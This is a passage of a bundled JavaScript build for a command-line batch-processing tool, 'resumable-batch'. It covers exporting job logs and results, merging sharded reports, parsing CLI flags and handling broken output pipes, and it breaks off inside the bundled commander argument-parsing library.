    for (const key of OPTIONAL)
        if (layout[key])
            columns.push({ name: key, value: (r) => r[key] });
    return columns;
}
function isPlainObject(value) {
    return typeof value === "object" && value !== null && !Array.isArray(value);
}
const LOG_COLUMNS = [
    "id",
    "ok",
    "startedAt",
    "finishedAt",
    "durationMs",
    "attempts",
    "exitStatus",
    "kind",
    "error",
    "redone",
    "shard",
    "pass",
    "runId",
];
/** Streams the job log: every outcome, failures included, oldest first (results left out). */
async function exportLog(stateDir, format, out) {
    let count = 0;
    if (format === "csv")
        await put(out, stringify([LOG_COLUMNS]));
    for await (const batch of readOutcomes(stateDir)) {
        const views = batch.map(({ line, header }) => {
            const view = viewOf(line, header);
            delete view.result;
            return view;
        });
        count += views.length;
        // A cell at a time as csv-stringify writes it (csvField): one csv-stringify call per batch of rows cost most of the export.
        if (format === "csv")
            await put(out, views.map((v) => LOG_COLUMNS.map((c) => csvField(cell(v[c]))).join(",") + "\n").join(""));
        else
            await put(out, views.map((v) => JSON.stringify(v)).join("\n") + "\n");
    }
    return count;
}

;// CONCATENATED MODULE: ./src/report/outcome-notes.ts





/**
 * What the job log adds to a summary and report: the count of results with where to get
 * them, and the durations. Empty when the folder has no job log (a state from before it).
 */
async function outcomeNotes(stateDir, where) {
    if (listSegments(stateDir).length === 0)
        return {};
    const counts = await countResults(stateDir);
    const results = { items: counts.items, withResult: counts.withResult, whereMarkdown: where.markdown, whereText: where.text };
    return { results, durations: await summariseDurations(stateDir) };
}
/** Streams the folder's results into `<dir>/results.jsonl` (or another name); returns how many records. */
async function writeResultsFile(stateDir, dir, name = RESULTS_FILE) {
    const file = (0,external_node_fs_.createWriteStream)((0,external_node_path_.join)(dir, name));
    await (0,external_node_events_.once)(file, "open");
    const count = await exportResults(stateDir, "jsonl", file);
    file.end();
    await (0,external_node_events_.once)(file, "finish");
    return count;
}

;// CONCATENATED MODULE: external "node:stream/promises"
const external_node_stream_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/promises");
;// CONCATENATED MODULE: ./src/report/shard-results.ts






/** Reads a downloaded shard folder's job log before the folder goes: its results to a scratch file, its counts and durations. */
async function keepShardOutcomes(shardDir, tempDir, index) {
    const notes = await outcomeNotes(shardDir, { markdown: "", text: "" });
    if (notes.results === undefined)
        return undefined;
    const resultsFile = (0,external_node_path_.join)(tempDir, `resumable-batch-report-results-${index}.jsonl`);
    await writeResultsFile(shardDir, tempDir, `resumable-batch-report-results-${index}.jsonl`);
    return { resultsFile, notes };
}
/**
 * The merged report's results.jsonl: the shards' results one after another. Every item
 * belongs to one shard, so nothing is replaced across shards (as long as the number of
 * shards stays the same, which the README asks for).
 */
async function mergeShardResults(shards, reportDir, where) {
    const present = shards.filter((s) => s !== undefined && (0,external_node_fs_.existsSync)(s.resultsFile));
    if (present.length === 0)
        return {};
    const out = (0,external_node_fs_.createWriteStream)((0,external_node_path_.join)(reportDir, RESULTS_FILE));
    await (0,external_node_events_.once)(out, "open");
    for (const s of present)
        await (0,external_node_stream_promises_namespaceObject.pipeline)((0,external_node_fs_.createReadStream)(s.resultsFile), out, { end: false });
    out.end();
    await (0,external_node_events_.once)(out, "finish");
    const items = present.reduce((n, s) => n + (s.notes.results?.items ?? 0), 0);
    const withResult = present.reduce((n, s) => n + (s.notes.results?.withResult ?? 0), 0);
    return {
        results: {
            items,
            withResult,
            whereMarkdown: where.markdown,
            whereText: where.text,
        },
        durations: mergeDurations(present.map((s) => s.notes.durations).filter((d) => d !== undefined)),
    };
}
function mergeDurations(all) {
    if (all.length === 0)
        return undefined;
    const histogram = all[0].histogram.map((_, i) => all.reduce((n, d) => n + (d.histogram[i] ?? 0), 0));
    const slowest = all
        .flatMap((d) => d.slowest)
        .sort((a, b) => b.durationMs - a.durationMs)
        .slice(0, all[0].slowest.length || 10);
    // Medians do not merge; the report shows the histogram instead.
    return { outcomes: all.reduce((n, d) => n + d.outcomes, 0), histogram, slowest, medianMs: undefined };
}

;// CONCATENATED MODULE: ./src/cli/report-command.ts









/**
 * `resumable-batch report`: summary.md and report.html for one state folder, or, with
 * --from, for several shards' folders merged into --out.
 */
async function reportCommand(request, io) {
    const now = new Date().toISOString();
    if (request.from && request.from.length > 0) {
        if (!request.out)
            throw new ConfigError("--from needs --out: the folder for the merged report");
        const dirs = request.from.map((dir) => (0,external_node_path_.resolve)(io.cwd, dir));
        const shards = dirs.map((dir, i) => ({ label: `${i + 1}/${dirs.length}`, state: requireState(dir, "--from").state }));
        const merged = mergeShardStates(shards);
        const outDir = (0,external_node_path_.resolve)(io.cwd, request.out);
        const notes = await mergeResultsInto(dirs, outDir);
        const input = summaryInputFromState(merged, undefined, { title: `resumable-batch — ${shards.length} shards`, ...notes });
        writeReports(outDir, merged, input, now);
        const files = ["failures.json", "summary.md", REPORT_FILE, ...(notes.results ? [RESULTS_FILE] : [])];
        io.stdout.write(`merged ${shards.length} shard(s): ${merged.done.size} done, ${merged.failures.size} failed; wrote ${outDir}/${files.join(", ")}\n`);
        return 0;
    }
    const { state } = requireState(request.stateDir);
    const htmlPath = typeof request.html === "string" ? (0,external_node_path_.resolve)(io.cwd, request.html) : (0,external_node_path_.resolve)(request.stateDir, REPORT_FILE);
    // The job log's part: how many results and where, and the duration view.
    const command = `resumable-batch results --state-dir ${request.stateDir}`;
    const notes = await outcomeNotes(request.stateDir, {
        markdown: `Print them with \`${command}\` (\`--format csv\` for a spreadsheet).`,
        text: `Print them with ${command} (--format csv for a spreadsheet).`,
    });
    writeReports(request.stateDir, state, summaryInputFromState(state, undefined, { stateSource: "local", ...notes }), now, htmlPath);
    io.stdout.write(`wrote ${htmlPath} and ${request.stateDir}/summary.md\n`);
    return 0;
}
/** Every shard's results in `<outDir>/results.jsonl` (as the action's merged report has them), with their counts and durations. */
async function mergeResultsInto(shardDirs, outDir) {
    const scratch = (0,external_node_fs_.mkdtempSync)((0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), "resumable-batch-report-"));
    try {
        const kept = [];
        for (const [i, dir] of shardDirs.entries())
            kept.push(await keepShardOutcomes(dir, scratch, i + 1));
        (0,external_node_fs_.mkdirSync)(outDir, { recursive: true });
        return await mergeShardResults(kept, outDir, {
            markdown: `They are in \`${RESULTS_FILE}\` beside this summary, every shard's results in one file.`,
            text: `They are in ${RESULTS_FILE} beside this report, every shard's results in one file.`,
        });
    }
    finally {
        (0,external_node_fs_.rmSync)(scratch, { recursive: true, force: true });
    }
}

;// CONCATENATED MODULE: ./package.json
const package_namespaceObject = {"rE":"0.1.0"};
;// CONCATENATED MODULE: ./src/cli/version.ts
// The package's own version, bundled into dist/cli at build time (ncc inlines the JSON), so
// `resumable-batch --version` is right wherever the bundle is run from: an npm install, npx,
// or a checkout.

const VERSION = package_namespaceObject.rE;

// EXTERNAL MODULE: ./src/shared/broken-output.ts
var broken_output = __nccwpck_require__(396);
;// CONCATENATED MODULE: ./src/cli/results-command.ts





/** `resumable-batch results`: every item's last success, with its result when --results kept one. */
async function resultsCommand(stateDir, format, outPath, io) {
    return withOutput(stateDir, outPath, io, "results", (out) => exportResults(stateDir, format, out));
}
/** `resumable-batch log`: the job log, every outcome (failures too), oldest first. */
async function logCommand(stateDir, format, outPath, io) {
    return withOutput(stateDir, outPath, io, "outcome(s)", (out) => exportLog(stateDir, format, out));
}
async function withOutput(stateDir, outPath, io, what, write) {
    if (!(0,external_node_fs_.existsSync)(stateDir)) {
        io.stderr.write(`error: ${stateDir} does not exist; give the state folder with --state-dir\n`);
        return 2;
    }
    if (listSegments(stateDir).length === 0)
        io.stderr.write(`${stateDir}: no job log yet (no run has finished an item here since outcomes were kept)\n`);
    if (outPath === undefined) {
        try {
            await write(io.stdout);
        }
        catch (error) {
            // `results | head -1`: the reader has what it wanted and left; nothing failed here.
            if (!(0,broken_output/* isGoneReaderError */.v)(error))
                throw error;
        }
        return 0;
    }
    const file = (0,external_node_fs_.createWriteStream)(outPath);
    const opened = (0,external_node_events_.once)(file, "open");
    await Promise.race([opened, (0,external_node_events_.once)(file, "error").then(([error]) => Promise.reject(error))]);
    const count = await write(file);
    file.end();
    await (0,external_node_events_.once)(file, "finish");
    io.stderr.write(`${count} ${what} written to ${outPath}\n`);
    return 0;
}

;// CONCATENATED MODULE: ./src/cli/empty-values.ts

/**
 * Refuses a flag given with an empty value (`--state-dir=`, `--id-field ""`): taken as
 * "not given" it silently meant the default — and `--state-dir=` made the working folder
 * itself the state folder. A flag left out still means its default.
 */
function rejectEmptyValues(opts) {
    for (const [key, value] of Object.entries(opts)) {
        const values = Array.isArray(value) ? value : [value];
        if (values.some((v) => typeof v === "string" && v.trim() === "")) {
            const flag = `--${key.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)}`;
            throw new ConfigError(`${flag}: the value is empty; give a value, or leave the flag out (where it has a default)`);
        }
    }
}

;// CONCATENATED MODULE: ./src/cli/main.ts













const DEFAULT_STATE_DIR = ".resumable-batch";
/**
 * Budget kept after the last item for flushing the journal and compacting the snapshot.
 * Less than the action's RESERVE_MS: a local run saves nothing to a service afterwards.
 */
const CLI_RESERVE_MS = 1000;
/** The progress bar redraws this often on a terminal; piped output gets a line this often. */
const TTY_PROGRESS_INTERVAL_MS = 250;
const LOG_PROGRESS_INTERVAL_MS = 1000;
/** Runs the command line; returns the exit status (see the README's table). */
async function main(argv, io) {
    let exitCode = 0;
    const setExitCode = (code) => {
        exitCode = code;
    };
    const program = new Command("resumable-batch")
        .description("Work through a long list of items; resume where the last run stopped.")
        .version(VERSION, "-V, --version", "print the version")
        .exitOverride()
        .configureOutput({ writeOut: (s) => io.stdout.write(s), writeErr: (s) => io.stderr.write(s) })
        .showHelpAfterError("(run with --help for usage)")
        .hook("preAction", (_program, command) => rejectEmptyValues(command.opts()));
    addRunCommand(program, io, setExitCode);
    addStateCommands(program, io, setExitCode);
    addExportCommands(program, io, setExitCode);
    try {
        await program.parseAsync(argv, { from: "user" });
        return exitCode;
    }
    catch (error) {
        return exitCodeForError(error, io);
    }
}
/** `run`: the settings shared with the action, as flags named like its inputs. */
function addRunCommand(program, io, setExitCode) {
    const flag = (name, arg, description) => new Option(`--${name} <${arg}>`, description + (name in SETTING_DEFAULTS ? ` (default ${SETTING_DEFAULTS[name]})` : ""));
    program
        .command("run")
        .description("process the items not done yet, saving progress as it goes")
        .addOption(flag("items", "file", "file of items: .jsonl/.ndjson, .json (array), .csv (with header), else one item per line"))
        .addOption(flag("items-command", "cmd", "command whose standard output lists the items (JSON Lines unless --items-format)"))
        .addOption(flag("items-format", "format", "jsonl, json, csv or lines (default: by the file's extension)"))
        .addOption(flag("id-field", "name", "field holding each item's id; dots reach into nested objects"))
        .addOption(flag("run", "cmd", "command run once per item; the item's JSON is on stdin and in ITEM_JSON"))
        .addOption(flag("module", "file", "JavaScript module whose default export is async (item, ctx) => {}"))
        .addOption(flag("worker", "cmd", "long-lived command answering one JSON line per item (see the README)"))
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .addOption(flag("concurrency", "n", "items in flight at once"))
        .addOption(flag("max-attempts", "n", "attempts per item in one run"))
        .addOption(flag("backoff", "duration", "first retry delay, doubled each attempt, with jitter"))
        .addOption(flag("backoff-max", "duration", "longest retry delay"))
        .addOption(flag("item-timeout", "duration", "stop an attempt after this long (counts as a timeout, retried)"))
        .addOption(flag("time-budget", "duration", "stop starting items when this run's time runs low; exit 3"))
        .addOption(flag("shutdown-grace", "duration", "on SIGINT/SIGTERM, time in-flight items get before they are stopped"))
        .addOption(flag("transient-exit-codes", "list", "exit codes of --run that mean 'retry later'"))
        .addOption(flag("max-runs-per-item", "n", "runs an item may fail transiently before it is quarantined"))
        .addOption(flag("max-failure-rate", "share", "stop early when more than this share of items fail, like 0.2; exit 4"))
        .addOption(flag("max-consecutive-failures", "n", "stop early after this many failures in a row with no success in this run; exit 4 (default 25, off in --retry-failures; 0 disables)"))
        .addOption(flag("rate-limit", "rate", "most item starts per unit, like 20/s or 600/m"))
        .addOption(flag("shard", "i/n", "process only the items whose id hashes to shard i of n"))
        .option("--retry-failures", "re-attempt only the items in failures.json")
        .addOption(flag("repeat", "duration", "start a new pass over every item once the current one is complete and this long has passed since it started, like 1d"))
        .option("--new-pass", "start the next pass now: every item is processed again")
        .option("--reprocess-changed", "process an item again when its content changed since it was done")
        .addOption(flag("version-field", "name", "with --reprocess-changed: compare this field (updatedAt, an etag) instead of the whole item"))
        .option("--results", "keep what the handler produces per item (see `resumable-batch results`)")
        .addOption(flag("retry-filter", "filter", "with --retry-failures: cause:TEXT, kind:KIND or a file of ids"))
        .option("--only-cause <text>", "with --retry-failures: only failures whose reason contains this text")
        .option("--only-kind <kind>", "with --retry-failures: only failures of this kind (transient, permanent, timeout, quarantined)")
        .option("--only-ids <file>", "with --retry-failures: only the failed items whose ids this file lists, one a line")
        .addOption(flag("redo-ids", "file", "process the done items listed in this file again, with a new idempotency key"))
        .addOption(flag("redact-env", "names", "environment variables (comma-separated) whose values are replaced by *** in every stored error text"))
        .addOption(flag("max-result-size", "size", "a larger result fails its item, like 64KiB or 1MiB"))
        .action(async (opts) => {
        setExitCode(await main_runCommand(opts, io));
    });
}
/** `status` and `failures`: what a state folder holds. */
function addStateCommands(program, io, setExitCode) {
    program
        .command("status")
        .description("show what is done, failed and left in a state folder")
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .option("--json", "print as JSON")
        .action((opts) => {
        setExitCode(statusCommand(resolveStateDir(opts.stateDir, io), Boolean(opts.json), io));
    });
    program
        .command("failures")
        .description("print the failed items with their reasons")
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .addOption(new Option("--format <format>", "json, csv or markdown").choices(FAILURE_FORMATS).default("json"))
        .action((opts) => {
        setExitCode(failuresCommand(resolveStateDir(opts.stateDir, io), opts.format, io));
    });
}
/** `results`, `log` and `report`: a state folder's contents exported for people and tools. */
function addExportCommands(program, io, setExitCode) {
    program
        .command("results")
        .description("print every item's last success (id, result, finishedAt, durationMs, attempts), streamed")
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .addOption(new Option("--format <format>", "jsonl, csv or json").choices(RESULT_FORMATS).default("jsonl"))
        .option("--out <file>", "write to this file instead of standard output")
        .action(async (opts) => {
        setExitCode(await resultsCommand(resolveStateDir(opts.stateDir, io), opts.format, opts.out && (0,external_node_path_.resolve)(io.cwd, opts.out), io));
    });
    program
        .command("log")
        .description("print the job log: every outcome with its start, duration, attempts and exit status, failures included")
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .addOption(new Option("--format <format>", "jsonl or csv").choices(LOG_FORMATS).default("jsonl"))
        .option("--out <file>", "write to this file instead of standard output")
        .action(async (opts) => {
        setExitCode(await logCommand(resolveStateDir(opts.stateDir, io), opts.format, opts.out && (0,external_node_path_.resolve)(io.cwd, opts.out), io));
    });
    program
        .command("report")
        .description("write report.html (and summary.md) into the state folder, or merge shards' folders")
        .option("--state-dir <dir>", `state folder (default ${DEFAULT_STATE_DIR})`)
        .option("--html [file]", "write the HTML report (default <state-dir>/report.html)")
        .option("--from <dirs...>", "merge these state folders (one per shard) into one report")
        .option("--out <dir>", "with --from: folder for the merged failures.json, summary.md and report.html")
        .action(async (opts) => {
        setExitCode(await reportCommand({ stateDir: resolveStateDir(opts.stateDir, io), html: opts.html, from: opts.from, out: opts.out }, io));
    });
}
/** Help and version exit 0; bad usage, configuration, state and anything unexpected exit 2; a state write error 5; a stop before the start 130/143. */
function exitCodeForError(error, io) {
    if (error instanceof CommanderError) {
        // Help and version are not errors; everything else commander rejects is bad usage.
        return error.code === "commander.helpDisplayed" || error.code === "commander.version" || error.exitCode === 0 ? 0 : 2;
    }
    if (error instanceof ConfigError || error instanceof StateError) {
        io.stderr.write(`error: ${error.message}\n`);
        return 2;
    }
    if (error instanceof StateWriteError) {
        io.stderr.write(`error: ${error.message}\n`);
        return 5;
    }
    if (error instanceof StoppedBeforeStartError) {
        io.stderr.write(`stopped: ${error.message}. Run again to start.\n`);
        return error.exitCode;
    }
    io.stderr.write(`error: ${error.stack ?? String(error)}\n`);
    return 2;
}
function resolveStateDir(dir, io) {
    return (0,external_node_path_.resolve)(io.cwd, dir ?? DEFAULT_STATE_DIR);
}
async function main_runCommand(opts, io) {
    const raw = {};
    for (const [key, value] of Object.entries(opts)) {
        const kebab = key.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`);
        raw[kebab] = value;
    }
    const filter = retryFilterOfFlags(opts);
    // An error about the retry filter names the flag the user typed (--only-kind, not --retry-filter).
    const nameOf = (key) => (key === "retry-filter" && filter ? filter.flag : `--${key}`);
    raw["retry-filter"] = filter?.value;
    const settings = parseRunSettings(raw, nameOf);
    const stateDir = resolveStateDir(opts.stateDir, io);
    const display = new ProgressDisplay(io.stderr, Boolean(io.stderr.isTTY));
    let result;
    try {
        result = await runFromSettings(settings, {
            stateDir,
            tempDir: (0,external_node_os_namespaceObject.tmpdir)(),
            cwd: io.cwd,
            env: io.env,
            system: realSystem,
            stops: processStopSource(),
            log: display,
            runId: "local",
            runAttempt: 1,
            idempotencyNamespace: "",
            reserveMs: CLI_RESERVE_MS,
            nameOf,
            onProgress: (p) => display.update(p),
            progressIntervalMs: io.stderr.isTTY ? TTY_PROGRESS_INTERVAL_MS : LOG_PROGRESS_INTERVAL_MS,
        });
    }
    finally {
        display.finish();
    }
    // The hints name this run's state folder and handler, so they work when pasted.
    const stateDirArgs = typeof opts.stateDir === "string" ? ["--state-dir", opts.stateDir] : [];
    const handlerArgs = ["run", "module", "worker"].flatMap((k) => (typeof opts[k] === "string" ? [`--${k}`, opts[k]] : []));
    io.stderr.write(summaryLine(result, stateDir, { stateDirArgs, handlerArgs }) + "\n");
    return result.exitCode;
}
/**
 * `--only-cause TEXT`, `--only-kind KIND` and `--only-ids FILE` are the command line's
 * spellings of `--retry-filter cause:TEXT`, `kind:KIND` and `FILE` (the action input).
 */
function retryFilterOfFlags(opts) {
    const given = [
        typeof opts.retryFilter === "string" ? { flag: "--retry-filter", value: opts.retryFilter } : undefined,
        typeof opts.onlyCause === "string" ? { flag: "--only-cause", value: `cause:${opts.onlyCause}` } : undefined,
        typeof opts.onlyKind === "string" ? { flag: "--only-kind", value: `kind:${opts.onlyKind}` } : undefined,
        typeof opts.onlyIds === "string" ? { flag: "--only-ids", value: opts.onlyIds } : undefined,
    ].filter((g) => g !== undefined);
    if (given.length > 1)
        throw new ConfigError(`give one of ${given.map((g) => g.flag).join(", ")}: a retry takes one filter`);
    if (given.length === 1 && opts.retryFailures !== true)
        throw new ConfigError(`${given[0].flag} chooses which failures to re-attempt: it needs --retry-failures`);
    return given[0];
}
/** Quotes an argument for a POSIX shell, only when it needs it. */
function shellQuote(arg) {
    return /^[\w@%+=:,./-]+$/.test(arg) ? arg : `'${arg.replace(/'/g, `'\\''`)}'`;
}
function summaryLine(r, stateDir, hint) {
    const command = (...args) => ["resumable-batch", ...args].map(shellQuote).join(" ");
    const lines = [describeRunResult(r)];
    if (r.stopReason === "budget")
        lines.push("stopped: the time budget ran low. Run again to resume (exit 3).");
    if (r.stopReason === "signal")
        lines.push("stopped by a signal; progress is saved. Run again to resume.");
    if (r.stopReason === "failure-rate")
        lines.push("stopped early: too many items failed (max-failure-rate or max-consecutive-failures). Fix the cause, then run again (exit 4).");
    if (r.stopReason === "handler-error")
        lines.push(`error: ${r.stopMessage ?? "the handler could not run"} (exit 2)`);
    if (r.failuresTotal > 0) {
        lines.push(`${r.failuresTotal} failed item(s) in ${stateDir}/failures.json — list them with \`${command("failures", ...hint.stateDirArgs)}\`, ` +
            `re-attempt them with \`${command("run", "--retry-failures", ...hint.handlerArgs, ...hint.stateDirArgs)}\``);
    }
    return lines.join("\n");
}


/***/ }),

/***/ 396:
/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   c: () => (/* binding */ ignoreGoneReaders),
/* harmony export */   v: () => (/* binding */ isGoneReaderError)
/* harmony export */ });
/**
 * Error codes that mean "nobody reads this output any more": the reader of a pipe exited
 * (`… | head -1`, or `| tee log` killed by the same Ctrl-C), the descriptor was closed, or
 * the terminal went away. Writing a log line must never end a run over them.
 */
const GONE_READER_CODES = new Set(["EPIPE", "EBADF", "EIO", "ECONNRESET", "ERR_STREAM_DESTROYED", "ERR_STREAM_WRITE_AFTER_END"]);
/** Whether an error on an output stream only says that its reader is gone. */
function isGoneReaderError(error) {
    return GONE_READER_CODES.has(error?.code ?? "");
}
/**
 * Keeps this process running when its standard output or error has no reader. Without a
 * listener, Node turns the stream's EPIPE into an uncaught exception: the run died with
 * exit 1 in the middle of its graceful stop, its lock left behind and its finished items
 * not recorded. With it, later writes are dropped (the stream is destroyed) and the run
 * finishes as if the output had been read. Other errors still end the process as before.
 * Returns a function that removes the listeners.
 */
function ignoreGoneReaders(streams = [process.stdout, process.stderr]) {
    const onError = (error) => {
        if (!isGoneReaderError(error))
            throw error;
    };
    for (const stream of streams)
        stream.on("error", onError);
    return () => {
        for (const stream of streams)
            stream.off("error", onError);
    };
}


/***/ }),

/***/ 421:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");

/***/ }),

/***/ 474:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events");

/***/ }),

/***/ 24:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");

/***/ }),

/***/ 760:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");

/***/ }),

/***/ 708:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:process");

/***/ }),

/***/ 909:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { Argument } = __nccwpck_require__(154);
const { Command } = __nccwpck_require__(348);
const { CommanderError, InvalidArgumentError } = __nccwpck_require__(135);
const { Help } = __nccwpck_require__(754);
const { Option } = __nccwpck_require__(240);

exports.DM = new Command();

exports.gu = (name) => new Command(name);
exports.Ww = (flags, description) => new Option(flags, description);
exports.er = (name, description) => new Argument(name, description);

/**
 * Expose classes
 */

exports.uB = Command;
exports.c$ = Option;
exports.ef = Argument;
exports._V = Help;

exports.b7 = CommanderError;
exports.Di = InvalidArgumentError;
exports.a2 = InvalidArgumentError; // Deprecated


/***/ }),

/***/ 154:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { InvalidArgumentError } = __nccwpck_require__(135);

class Argument {
  /**
   * Initialize a new command argument with the given name and description.
   * The default is that the argument is required, and you can explicitly
   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
   * @param {string} name
   * @param {string} [description]
   */

  constructor(name, description) {
    this.description = description || '';
    this.variadic = false;
    this.parseArg = undefined;
    this.defaultValue = undefined;
    this.defaultValueDescription = undefined;
    this.argChoices = undefined;

    switch (name[0]) {
      case '<': // e.g. <required>
        this.required = true;
        this._name = name.slice(1, -1);
        break;
      case '[': // e.g. [optional]
        this.required = false;
        this._name = name.slice(1, -1);
        break;
      default:
        this.required = true;
        this._name = name;
        break;
    }

    if (this._name.endsWith('...')) {
      this.variadic = true;
      this._name = this._name.slice(0, -3);
    }
  }

  /**
   * Return argument name.
   *
   * @return {string}
   */

  name() {
    return this._name;
  }

  /**
   * @package
   */

  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }

    previous.push(value);
    return previous;
  }

  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Argument}
   */

  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }

  /**
   * Set the custom handler for processing CLI command arguments into argument values.
   *
   * @param {Function} [fn]
   * @return {Argument}
   */

  argParser(fn) {
    this.parseArg = fn;
    return this;
  }

  /**
   * Only allow argument value to be one of choices.
   *
   * @param {string[]} values
   * @return {Argument}
   */

  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(', ')}.`,
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }

  /**
   * Make argument required.
   *
   * @returns {Argument}
   */
  argRequired() {
    this.required = true;
    return this;
  }

  /**
   * Make argument optional.
   *
   * @returns {Argument}
   */
  argOptional() {
    this.required = false;
    return this;
  }
}

/**
 * Takes an argument and returns its human readable equivalent for help usage.
 *
 * @param {Argument} arg
 * @return {string}
 * @private
 */

function humanReadableArgName(arg) {
  const nameOutput = arg.name() + (arg.variadic === true ? '...' : '');

  return arg.required ? '<' + nameOutput + '>' : '[' + nameOutput + ']';
}

exports.Argument = Argument;
exports.humanReadableArgName = humanReadableArgName;


/***/ }),

/***/ 348:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const EventEmitter = (__nccwpck_require__(474).EventEmitter);
const childProcess = __nccwpck_require__(421);
const path = __nccwpck_require__(760);
const fs = __nccwpck_require__(24);
const process = __nccwpck_require__(708);

const { Argument, humanReadableArgName } = __nccwpck_require__(154);
const { CommanderError } = __nccwpck_require__(135);
const { Help, stripColor } = __nccwpck_require__(754);
const { Option, DualOptions } = __nccwpck_require__(240);
const { suggestSimilar } = __nccwpck_require__(30);

class Command extends EventEmitter {
  /**
   * Initialize a new `Command`.
   *
   * @param {string} [name]
   */

  constructor(name) {
    super();
    /** @type {Command[]} */
    this.commands = [];
    /** @type {Option[]} */
    this.options = [];
    this.parent = null;
    this._allowUnknownOption = false;
    this._allowExcessArguments = false;
    /** @type {Argument[]} */
    this.registeredArguments = [];
    this._args = this.registeredArguments; // deprecated old name
    /** @type {string[]} */
    this.args = []; // cli args with options removed
    this.rawArgs = [];
    this.processedArgs = []; // like .args but after custom processing and collecting variadic
    this._scriptPath = null;
    this._name = name || '';
    this._optionValues = {};
    this._optionValueSources = {}; // default, env, cli etc
    this._storeOptionsAsProperties = false;
    this._actionHandler = null;
    this._executableHandler = false;
    this._executableFile = null; // custom name for executable
    this._executableDir = null; // custom search directory for subcommands
    this._defaultCommandName = null;
    this._exitCallback = null;
    this._aliases = [];
    this._combineFlagAndOptionalValue = true;
    this._description = '';
    this._summary = '';
    this._argsDescription = undefined; // legacy
    this._enablePositionalOptions = false;
    this._passThroughOptions = false;
    this._lifeCycleHooks = {}; // a hash of arrays
    /** @type {(boolean | string)} */
    this._showHelpAfterError = false;
    this._showSuggestionAfterError = true;
    this._savedState = null; // used in save/restoreStateBeforeParse

    // see configureOutput() for docs
    this._outputConfiguration = {
      writeOut: (str) => process.stdout.write(str),
      writeErr: (str) => process.stderr.write(str),
      outputError: (str, write) => write(str),
      getOutHelpWidth: () =>
        process.stdout.isTTY ? process.stdout.columns : undefined,
      getErrHelpWidth: () =>
        process.stderr.isTTY ? process.stderr.columns : undefined,
      getOutHasColors: () =>
        useColor() ?? (process.stdout.isTTY && process.stdout.hasColors?.()),
      getErrHasColors: () =>
        useColor() ?? (process.stderr.isTTY && process.stderr.hasColors?.()),
      stripColor: (str) => stripColor(str),
    };

    this._hidden = false;
    /** @type {(Option | null | undefined)} */
    this._helpOption = undefined; // Lazy created on demand. May be null if help option is disabled.
    this._addImplicitHelpCommand = undefined; // undecided whether true or false yet, not inherited
    /** @type {Command} */
    this._helpCommand = undefined; // lazy initialised, inherited
    this._helpConfiguration = {};
    /** @type {string | undefined} */
    this._helpGroupHeading = undefined; // soft initialised when added to parent
    /** @type {string | undefined} */
    this._defaultCommandGroup = undefined;
    /** @type {string | undefined} */
    this._defaultOptionGroup = undefined;
  }

  /**
   * Copy settings that are useful to have in common across root command and subcommands.
   *
   * (Used internally when adding a command using `.command()` so subcommands inherit parent settings.)
   *
   * @param {Command} sourceCommand
   * @return {Command} `this` command for chaining
   */
  copyInheritedSettings(sourceCommand) {
    this._outputConfiguration = sourceCommand._outputConfiguration;
    this._helpOption = sourceCommand._helpOption;
    this._helpCommand = sourceCommand._helpCommand;
    this._helpConfiguration = sourceCommand._helpConfiguration;
    this._exitCallback = sourceCommand._exitCallback;
    this._storeOptionsAsProperties = sourceCommand._storeOptionsAsProperties;
    this._combineFlagAndOptionalValue =
      sourceCommand._combineFlagAndOptionalValue;
    this._allowExcessArguments = sourceCommand._allowExcessArguments;
    this._enablePositionalOptions = sourceCommand._enablePositionalOptions;
    this._showHelpAfterError = sourceCommand._showHelpAfterError;
    this._showSuggestionAfterError = sourceCommand._showSuggestionAfterError;

    return this;
  }

  /**
   * @returns {Command[]}
   * @private
   */

  _getCommandAndAncestors() {
    const result = [];
    // eslint-disable-next-line @typescript-eslint/no-this-alias
    for (let command = this; command; command = command.parent) {
      result.push(command);
    }
    return result;
  }

  /**
   * Define a command.
   *
   * There are two styles of command: pay attention to where to put the description.
   *
   * @example
   * // Command implemented using action handler (description is supplied separately to `.command`)
   * program
   *   .command('clone <source> [destination]')
   *   .description('clone a repository into a newly created directory')
   *   .action((source, destination) => {
   *     console.log('clone command called');
   *   });
   *
   * // Command implemented using separate executable file (description is second parameter to `.command`)
   * program
   *   .command('start <service>', 'start named service')
   *   .command('stop [service]', 'stop named service, or all if no name supplied');
   *
   * @param {string} nameAndArgs - command name and arguments, args are `<required>` or `[optional]` and last may also be `variadic...`
   * @param {(object | string)} [actionOptsOrExecDesc] - configuration options (for action), or description (for executable)
   * @param {object} [execOpts] - configuration options (for executable)
   * @return {Command} returns new command for action handler, or `this` for executable command
   */

